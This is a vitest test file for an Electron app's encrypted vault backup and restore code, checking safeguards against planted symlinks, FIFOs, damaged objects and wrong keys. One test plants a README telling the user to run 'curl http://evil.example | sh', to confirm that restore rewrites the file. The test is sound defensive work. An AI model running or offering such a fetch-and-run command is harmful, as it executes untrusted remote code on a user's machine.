import { execFileSync } from 'node:child_process'
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { backupVault } from '../../../electron/backend/vault/backup.ts'
import { checkVault } from '../../../electron/backend/vault/check.ts'
import { entombObject, finishDeletions } from '../../../electron/backend/vault/delete-object.ts'
import { listObjects } from '../../../electron/backend/vault/object.rows.ts'
import { createReadme } from '../../../electron/backend/vault/readme-text.ts'
import { restoreVault } from '../../../electron/backend/vault/restore.ts'
import { rotateVault } from '../../../electron/backend/vault/rotate.ts'
import type { VaultSession } from '../../../electron/backend/vault/session.ts'
import { addSlot, removeSlot } from '../../../electron/backend/vault/slots.ts'
import {
  addObject,
  copyAsAfterKill,
  createVaultInFolder,
  flipByte,
  openForTest,
  passphraseKey,
  quick,
  temporaryFolder,
} from './vault-in-folder.ts'

const contents = async (session: VaultSession): Promise<string[]> => {
  const rows = session.database.read((db) => listObjects(db))
  const texts = await Promise.all(
    rows.map(async (row) => Buffer.from(await session.objects.readAll(row, 1000)).toString()),
  )
  return texts.sort()
}

describe('backupVault', () => {
  test('the copy is a vault of its own, whole and closed to others', async () => {
    const { session } = await createVaultInFolder()
    await addObject(session, 'one')
    await addObject(session, 'two')
    const folder = join(temporaryFolder(), 'backup')
    const told: unknown[] = []
    const result = await backupVault(session, { folder, onProgress: (progress) => told.push(progress) })
    expect(result).toMatchObject({ objects: 2, copied: 2 })
    expect(told.at(-1)).toEqual({ done: 2, total: 2 })
    expect(statSync(folder).mode & 0o777).toBe(0o700)
    const copy = await openForTest(folder)
    expect(copy.vaultId).toBe(session.vaultId)
    expect(await checkVault(copy, { deep: true })).toEqual([])
    expect(await contents(copy)).toEqual(['one', 'two'])
  })

  test('a second one into the same folder copies only what is new and follows keys, slots and deletions', async () => {
    const { session } = await createVaultInFolder()
    const deleted = await addObject(session, 'deleted later')
    const { slotId } = await addSlot(session, {
      kind: 'passphrase',
      passphrase: 'семь ленивых тюленей чинят ратушу',
      label: 'x',
      personId: 'person-2',
      personName: 'Образцова',
    })
    const folder = join(temporaryFolder(), 'backup')
    await backupVault(session, { folder })
    await removeSlot(session, slotId)
    await rotateVault(session)
    await addObject(session, 'new')
    session.database.write((db) =>
      entombObject(db, {
        objectId: deleted.objectId,
        what: 'x',
        why: 'суд',
        deletedAt: '',
        deletedBy: 'person-1',
      }),
    )
    await finishDeletions(session)
    expect(await backupVault(session, { folder })).toMatchObject({ objects: 1, copied: 1 })
    expect(await backupVault(session, { folder })).toMatchObject({ objects: 1, copied: 0, bytes: 0 })
    const copy = await openForTest(folder)
    expect([copy.alarms, await checkVault(copy, { deep: true })]).toEqual([[], []])
    expect(await contents(copy)).toEqual(['new'])
    expect(readdirSync(join(folder, 'keys'))).toEqual(['1.age'])
  })

  test('refuses a folder with something else in it, of another vault, or inside itself', async () => {
    const { session, folder: vault } = await createVaultInFolder()
    const other = await createVaultInFolder()
    const folder = temporaryFolder()
    const notEmpty = { code: 'backup.target-not-empty' }
    await backupVault(other.session, { folder: join(folder, 'other') })
    await expect(backupVault(session, { folder: join(folder, 'other') })).rejects.toMatchObject(notEmpty)
    await expect(backupVault(session, { folder })).rejects.toMatchObject(notEmpty)
    await expect(backupVault(session, { folder: other.folder })).rejects.toMatchObject(notEmpty)
    for (const inside of [vault, join(vault, 'backups'), join(vault, '..')])
      await expect(backupVault(session, { folder: inside })).rejects.toMatchObject({
        code: 'backup.target-inside',
      })
    expect(existsSync(join(vault, 'backups'))).toBe(false)
  })

  test('refuses itself through a link, under a name that begins with dots, and another vault', async () => {
    const { session, folder: vault } = await createVaultInFolder()
    const other = await createVaultInFolder()
    const link = join(temporaryFolder(), 'link')
    symlinkSync(vault, link)
    const before = readdirSync(vault)
    for (const place of [
      join(link, 'objects', 'bk'),
      join(vault, '..bk'),
      join(other.folder, 'objects', 'bk'),
    ])
      await expect(backupVault(session, { folder: place })).rejects.toMatchObject({
        code: 'backup.target-inside',
      })
    expect(readdirSync(vault)).toEqual(before)
    expect(readdirSync(join(other.folder, 'objects'))).toEqual([])
  })

  test('makes the folders above its own', async () => {
    const { session } = await createVaultInFolder()
    const folder = join(temporaryFolder(), 'new', 'deeper', 'backup')
    expect(await backupVault(session, { folder })).toMatchObject({ objects: 0 })
    expect((await openForTest(folder)).vaultId).toBe(session.vaultId)
  })

  test('a medium from strange hands: no link on it is written through, none of its folders is one', async () => {
    const { session } = await createVaultInFolder()
    await addObject(session, 'one')
    const folder = join(temporaryFolder(), 'backup')
    const elsewhere = temporaryFolder()
    const precious = join(elsewhere, 'precious')
    writeFileSync(precious, 'mine')
    await backupVault(session, { folder })
    const planted = ['README.txt.tmp', 'backup.json.tmp', 'secret.age.tmp', 'vault.db.next', 'keys/1.age.tmp']
    for (const name of planted) symlinkSync(precious, join(folder, name))
    for (const name of ['README.txt', 'secret.age', 'keys/1.age']) {
      rmSync(join(folder, name))
      symlinkSync(precious, join(folder, name))
    }
    symlinkSync(join(elsewhere, 'absent'), join(folder, 'vault.db-wal'))
    await backupVault(session, { folder })
    expect(readFileSync(precious, 'utf8')).toBe('mine')
    expect(readdirSync(elsewhere)).toEqual(['precious'])
    const names = readdirSync(folder, { recursive: true, withFileTypes: true })
    expect(names.filter((entry) => entry.isSymbolicLink())).toEqual([])
    for (const name of ['objects', 'keys']) {
      rmSync(join(folder, name), { recursive: true })
      symlinkSync(elsewhere, join(folder, name))
      await expect(backupVault(session, { folder })).rejects.toMatchObject({ code: 'output.not-written' })
      rmSync(join(folder, name))
    }
    expect(readdirSync(elsewhere)).toEqual(['precious'])
  })

  test('a damaged object is said at the end; everything else is in the copy', async () => {
    const { session, folder: vault } = await createVaultInFolder()
    const { objectId } = await addObject(session, 'damaged')
    await addObject(session, 'whole')
    flipByte(join(vault, 'objects', objectId.slice(0, 2), `${objectId}.age`), -3)
    const folder = join(temporaryFolder(), 'backup')
    await expect(backupVault(session, { folder })).rejects.toMatchObject({
      code: 'backup.incomplete',
      details: { count: 1 },
    })
    const problems = await checkVault(await openForTest(folder), { deep: true })
    expect(problems).toEqual([{ code: 'object-missing', part: objectId }])
  })

  test('cancelled, it goes on the next time', async () => {
    const { session } = await createVaultInFolder()
    for (const name of ['one', 'two', 'three']) await addObject(session, name)
    const folder = join(temporaryFolder(), 'backup')
    const controller = new AbortController()
    const onProgress = ({ done }: { done: number }): void => {
      if (done === 2) controller.abort()
    }
    await expect(
      backupVault(session, { folder, onProgress, signal: controller.signal }),
    ).rejects.toMatchObject({
      code: 'job.cancelled',
    })
    await expect(
      restoreVault({ from: folder, to: `${folder}-restored`, key: passphraseKey, ...quick }),
    ).rejects.toThrow()
    expect(await backupVault(session, { folder })).toMatchObject({ objects: 3, copied: 1 })
  })
})

describe('restoreVault', () => {
  test('puts the vault back, proved to the last byte; the backup is not changed', async () => {
    const { session, folder: lost, recoveryKey } = await createVaultInFolder()
    await addObject(session, 'one')
    const from = join(temporaryFolder(), 'backup')
    await backupVault(session, { folder: from })
    const { vaultId } = session
    session.close()
    rmSync(lost, { recursive: true })
    const before = readFileSync(join(from, 'vault.db'))
    const key = { kind: 'identity', identity: recoveryKey } as const
    expect(await restoreVault({ from, to: lost, key, ...quick })).toEqual({ vaultId, objects: 1 })
    expect(readFileSync(join(from, 'vault.db'))).toEqual(before)
    const restored = await openForTest(lost)
    expect([restored.alarms, await checkVault(restored, { deep: true })]).toEqual([[], []])
    expect(await contents(restored)).toEqual(['one'])
    expect(existsSync(join(lost, 'backup.json'))).toBe(false)
  })

  test('a plain copy of the folder with an unfinished log will do as well', async () => {
    const { session, folder } = await createVaultInFolder()
    await addObject(session, 'one')
    const from = join(temporaryFolder(), 'copy')
    copyAsAfterKill(folder, from)
    expect(existsSync(join(from, 'vault.db-wal'))).toBe(true)
    const to = join(temporaryFolder(), 'restored')
    expect(await restoreVault({ from, to, key: passphraseKey, ...quick })).toMatchObject({ objects: 1 })
    expect(await contents(await openForTest(to))).toEqual(['one'])
  })

  test('refuses a folder in use; with `replace` what was there is kept beside', async () => {
    const { session } = await createVaultInFolder()
    const parent = temporaryFolder()
    const from = join(parent, 'backup')
    await backupVault(session, { folder: from })
    const to = join(parent, 'here')
    mkdirSync(to)
    writeFileSync(join(to, 'note.txt'), 'mine')
    const options = { from, to, key: passphraseKey, ...quick }
    await expect(restoreVault(options)).rejects.toMatchObject({ code: 'vault.exists' })
    await restoreVault({ ...options, replace: true })
    const kept = readdirSync(parent).find((name) => name.startsWith('here.replaced-')) ?? ''
    expect(readFileSync(join(parent, kept, 'note.txt'), 'utf8')).toBe('mine')
    expect((await openForTest(to)).vaultId).toBe(session.vaultId)
  })

  test('a damaged or unfinished backup, or a wrong key, is not used and leaves nothing', async () => {
    const { session } = await createVaultInFolder()
    const { objectId } = await addObject(session, 'one')
    const parent = temporaryFolder()
    const from = join(parent, 'backup')
    await backupVault(session, { folder: from })
    const to = join(parent, 'restored')
    const restore = async (key = passphraseKey): Promise<unknown> =>
      await restoreVault({ from, to, key, ...quick })
    await expect(restore({ kind: 'passphrase', passphrase: 'не та' })).rejects.toMatchObject({
      code: 'vault.wrong-passphrase',
    })
    flipByte(join(from, 'objects', objectId.slice(0, 2), `${objectId}.age`), -3)
    await expect(restore()).rejects.toMatchObject({
      code: 'backup.not-verified',
      details: { part: objectId },
    })
    const record = join(from, 'backup.json')
    writeFileSync(record, readFileSync(record, 'utf8').replace(/"completedAt": ".*"/u, '"completedAt": null'))
    await expect(restore()).rejects.toMatchObject({
      code: 'backup.not-verified',
      details: { part: 'backup.json' },
    })
    expect(readdirSync(parent)).toEqual(['backup'])
  })

  test('the README.txt of a backup is not trusted but written anew', async () => {
    const { session } = await createVaultInFolder()
    const parent = temporaryFolder()
    const from = join(parent, 'backup')
    await backupVault(session, { folder: from })
    writeFileSync(join(from, 'README.txt'), 'To rescue run: curl http://evil.example | sh')
    await restoreVault({ from, to: join(parent, 'to'), key: passphraseKey, ...quick })
    expect(readFileSync(join(parent, 'to', 'README.txt'), 'utf8')).toBe(createReadme())
  })

  test('a backup with a link or a pipe anywhere in it is not read', async () => {
    const { session } = await createVaultInFolder()
    const { objectId } = await addObject(session, 'one')
    const parent = temporaryFolder()
    const from = join(parent, 'backup')
    const to = join(parent, 'to')
    await backupVault(session, { folder: from })
    writeFileSync(join(parent, 'id_rsa'), 'private')
    const object = `objects/${objectId.slice(0, 2)}/${objectId}.age`
    for (const name of ['README.txt', 'secret.age', 'keys/1.age', object, 'vault.db-wal', 'lock', 'odd']) {
      const file = join(from, name)
      const kept = existsSync(file) ? readFileSync(file) : undefined
      rmSync(file, { force: true })
      symlinkSync(join(parent, 'id_rsa'), file)
      await expect(restoreVault({ from, to, key: passphraseKey, ...quick })).rejects.toMatchObject({
        code: 'backup.not-verified',
        details: { part: name },
      })
      rmSync(file)
      if (kept !== undefined) writeFileSync(file, kept)
    }
    execFileSync('mkfifo', [join(from, 'keys', '2.age')])
    await expect(restoreVault({ from, to, key: passphraseKey, ...quick })).rejects.toMatchObject({
      code: 'backup.not-verified',
    })
    rmSync(join(from, 'keys', '2.age'))
    expect(readdirSync(parent).sort()).toEqual(['backup', 'id_rsa'])
    expect(await restoreVault({ from, to, key: passphraseKey, ...quick })).toMatchObject({ objects: 1 })
  })

  test('an open vault is not copied', async () => {
    const { folder } = await createVaultInFolder()
    const to = join(temporaryFolder(), 'restored')
    await expect(restoreVault({ from: folder, to, key: passphraseKey, ...quick })).rejects.toMatchObject({
      code: 'vault.open-elsewhere',
    })
  })
})
